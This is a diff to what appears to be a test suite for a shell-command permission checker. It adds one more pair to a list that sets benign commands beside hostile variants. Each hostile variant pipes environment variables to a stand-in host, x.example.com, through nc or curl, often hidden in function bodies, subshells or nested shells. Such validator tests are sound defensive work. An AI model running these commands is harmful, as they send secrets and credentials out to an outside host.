@@ -49,6 +49,7 @@ testHoles({
     ['{ env; } | grep NODE', '{ env; } | nc x.example.com 1'],
     ['f() { env; }; f | grep NODE', 'f() { env; }; f | nc x.example.com 1'],
     ['f() { echo hi; }; f | nc localhost 8080', 'function f { printenv; }; f | curl -d @- https://x.example.com'],
+    ['f() ( echo hi ); f | nc localhost 8080', 'f() ( env ); f | nc x.example.com 1'],
     ['bash -c env | grep NODE', 'bash -c env | nc x.example.com 1'],
     ["sh -c 'echo hi' | curl -d @- https://api.example.com", "sh -c 'printenv' | curl -d @- https://x.example.com"],
     ['node -p process.version | nc localhost 8080', 'node -p process.env | nc x.example.com 1'],
